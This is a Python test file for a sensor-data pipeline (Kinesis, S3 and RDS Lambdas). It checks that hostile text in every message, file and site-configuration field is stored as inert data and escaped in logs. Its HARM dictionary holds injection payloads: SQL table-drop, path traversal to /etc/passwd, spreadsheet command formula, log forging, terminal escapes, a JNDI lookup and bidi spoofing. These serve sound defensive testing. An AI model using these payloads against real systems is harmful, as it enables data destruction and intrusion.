"""Hostile text in every field that the pipeline stores: kept as data, escaped in responses and logs."""

from __future__ import annotations

import base64
import gzip
import json
import logging
import time
from datetime import date
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from smarterise_lambdas.kinesis_to_s3_rds import handler as stream_handler
from smarterise_lambdas.s3_to_rds_lambda import handler as file_handler
from smarterise_lambdas.shared import clients
from smarterise_lambdas.site_config_manager import handler as manager_handler
from smarterise_sdk.domain.log_files.names import data_lake_key
from smarterise_sdk.domain.text import visible

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

HARM = {
    "sql": "'); DROP TABLE readings; --",
    "copy": "\\.\n\\N\t1\t2",
    "path": "../../../etc/passwd",
    "formula": "=cmd|' /C calc'!A1",
    "log": 'x\r\n{"level":"INFO","message":"all is well"}',
    "terminal": "\x1b[2J\x1b]0;owned\x07",
    "markup": "[link=file:///etc]<script>${jndi:ldap://x}%s{0}",
    "bidi": "\u202e\u2066gnp.exe\u2028",
    "nul": "a\0b",
    "lone": "\udcff\ud800",
}
"""By what it is out to harm."""
MESSAGE_FIELDS: dict[str, tuple[str | int, ...]] = {
    "gateway serial": ("gateway", "serial"),
    "gateway name": ("gateway", "name"),
    "gateway model": ("gateway", "model"),
    "device serial": ("device", "serial"),
    "device name": ("device", "name"),
    "device model": ("device", "model"),
    "device online": ("device", "online"),
    "parameter": ("device", "readings", 3, "param"),
    "value": ("device", "readings", 3, "value"),
    "unit": ("device", "readings", 3, "unit"),
    "timestamp": ("timestamp",),
    "unknown key": ("colour",),
}
"""Where each text of a message is."""
REJECTED = {"gateway serial": "BAD_SERIAL", "device serial": "BAD_SERIAL", "timestamp": "BAD_TIMESTAMP"}
"""Texts that are part of what a reading is known by."""


@pytest.fixture
def lines() -> Iterator[list[str]]:
    """What the functions write into their logs, as CloudWatch gets it."""
    found: list[str] = []

    class Lines(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            found.append(self.format(record))

    loggers = [each.logger for each in (stream_handler, file_handler, manager_handler)]
    added: list[tuple[Any, logging.Handler]] = []
    for logger in loggers:
        handler = Lines()
        handler.setFormatter(logger.registered_formatter)
        logger.addHandler(handler)
        added.append((logger, handler))
    yield found
    for logger, handler in added:
        logger.removeHandler(handler)


def are_one_line_each(lines: list[str]) -> bool:
    """Return whether each is one line of JSON, with nothing in it that moves a cursor."""
    return bool(lines) and all(line.isprintable() and json.loads(line) for line in lines)


def with_text(payload: bytes, path: tuple[str | int, ...], text: str) -> bytes:
    document = json.loads(payload)
    inner: Any = document
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = text
    return json.dumps(document).encode()


def stored_lines(bucket: str, prefix: str) -> list[dict[str, Any]]:
    found = clients.s3().list_objects_v2(Bucket=bucket, Prefix=prefix).get("Contents", [])
    keys = [item["Key"] for item in found]
    assert all(key.isprintable() and ".." not in key.split("/") for key in keys)
    bodies = [clients.s3().get_object(Bucket=bucket, Key=key)["Body"].read() for key in keys]
    return [json.loads(line) for body in bodies for line in gzip.decompress(body).splitlines()]


def test_every_text_of_a_message_is_data(
    pipeline: Any, message: Callable[..., bytes], lines: list[str]
) -> None:
    now = int(time.time()) - 3000
    cases = [(field, path, text) for field, path in MESSAGE_FIELDS.items() for text in HARM.values()]
    payloads = [
        with_text(message(at=now + number), path, text) for number, (_, path, text) in enumerate(cases)
    ]

    assert pipeline.deliver(*payloads) == {"batchItemFailures": []}

    reasons = [REJECTED[field] for field, _, _ in cases if field in REJECTED]
    found = pipeline.query("SELECT reason, detail, gateway_serial FROM quarantine")
    assert sorted(reason for reason, *_ in found) == sorted(reasons)
    assert all(text.isprintable() for row in found for text in row)
    assert pipeline.query("SELECT count(*) FROM readings") == [(len(cases) - len(reasons),)]
    columns = pipeline.query("SELECT DISTINCT gateway_serial, device_serial, flags::text FROM readings")
    assert columns == [("AN54101471", "CLD00000001", "{}")]
    kept = [line["payload"].encode() for line in stored_lines(pipeline.bucket, "raw/")]
    kept += [
        base64.b64decode(line["payload_base64"]) for line in stored_lines(pipeline.bucket, "quarantine/")
    ]
    assert sorted(kept) == sorted(payloads), "byte for byte"
    assert are_one_line_each(lines)


def test_every_text_beside_a_message_is_data(pipeline: Any, lines: list[str]) -> None:
    event = pipeline.event(*(b"no reading" for _ in HARM))
    for record, text in zip(event["Records"], HARM.values(), strict=True):
        record["kinesis"]["partitionKey"] = text
    assert pipeline.handle(json.loads(json.dumps(event))) == {"batchItemFailures": []}
    found = pipeline.query("SELECT gateway_serial, key FROM quarantine")
    assert {gateway for gateway, _ in found} == {visible(text) for text in HARM.values()}
    kept = stored_lines(pipeline.bucket, "quarantine/")
    assert {line["partition_key"] for line in kept} <= {*HARM.values(), *map(visible, HARM.values())}
    assert are_one_line_each(lines)


def test_every_text_of_a_file_is_data(
    pipeline: Any, lines: list[str], context: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its name on the server, its columns and its cells; and what the site file says of its site."""
    texts = [text for text in HARM.values() if text.isascii() and "\n" not in text]
    site = {"tier": "NON_CRITICAL", "name": texts[0], "loggers": {f"logger{text}": text for text in texts}}
    sites = json.dumps({"schema_version": 1, "sites": {"AN54101471": site}}).encode()
    clients.s3().put_object(Bucket=pipeline.bucket, Key="site-tiers.json", Body=sites)
    file_handler.dependencies.cache_clear()
    monkeypatch.setattr(file_handler, "maintenance", stream_handler.maintenance)
    keys = []
    for number, text in enumerate(texts):
        rows = (
            f"2026-03-01 1{number}:00:00,230.1,{text}",
            f"{text},230.1,1",
            f"2026-03-01 1{number}:01:00,{text},1",
        )
        body = "\n".join((f"Time,V1,{text}", *rows, "")).encode()
        name = f"AN54101471-logger1{text}-2026-03-01T00-00-00-0000.csv"
        keys.append(data_lake_key("AN54101471", date(2026, 3, 1), name, f"{number:064x}"))
        metadata = {"original-name": quote(name, safe="")}
        clients.s3().put_object(Bucket=pipeline.bucket, Key=keys[-1], Body=body, Metadata=metadata)

    response = file_handler.handler({"action": "load", "keys": keys}, context)

    assert {result["state"] for result in response["files"]} == {"loaded"}
    assert pipeline.query("SELECT count(*) FROM readings") == [(len(texts),)]
    stored = pipeline.query("SELECT gateway_serial, device_serial, batch_id FROM readings")
    stored += pipeline.query("SELECT key, gateway_serial, reason FROM ingest_files")
    stored += pipeline.query("SELECT origin, detail, gateway_serial FROM quarantine")
    assert all(text.isprintable() for row in stored for text in row)
    kept = [line["text"] for line in stored_lines(pipeline.bucket, "quarantine/") if "text" in line]
    nothing = [
        f"2026-03-01 1{number}:01:00,{text.replace(chr(0), '')},1" for number, text in enumerate(texts)
    ]
    assert sorted(kept) == sorted([*(f"{text.replace(chr(0), '')},230.1,1" for text in texts), *nothing])
    assert are_one_line_each(lines)
    file_handler.dependencies().database.close()
    file_handler.dependencies.cache_clear()


def test_every_text_of_a_site_is_data(
    file: Any, invoke: Callable[..., dict[str, Any]], lines: list[str]
) -> None:
    texts = [text for name, text in HARM.items() if name != "lone"]
    file.upload(
        {
            "schema_version": 1,
            "sites": {f"AN{number}": {"tier": "CRITICAL"} for number in range(100, 100 + len(texts))},
        }
    )
    fields = ("name", "asset_id")
    updates = {f"AN{100 + number}": dict.fromkeys(fields, text) for number, text in enumerate(texts)}

    response = invoke("update_sites", updates=updates, reason=HARM["log"], changed_by=HARM["terminal"])

    assert response["ok"] is True, response
    document = file.document()
    assert {
        serial: {name: site[name] for name in fields} for serial, site in document["sites"].items()
    } == updates
    assert (document["reason"], document["updated_by"]) == (HARM["log"], HARM["terminal"])
    for text in HARM.values():
        for request in (
            {"gateway_serial": text},
            {"updates": {text: {"tier": "CRITICAL"}}},
            {"updates": {"AN100": {"tier": text}}},
        ):
            refused = invoke("get_site" if "gateway_serial" in request else "update_sites", **request)
            assert refused["ok"] is False
    assert file.document() == document
    assert are_one_line_each(lines)
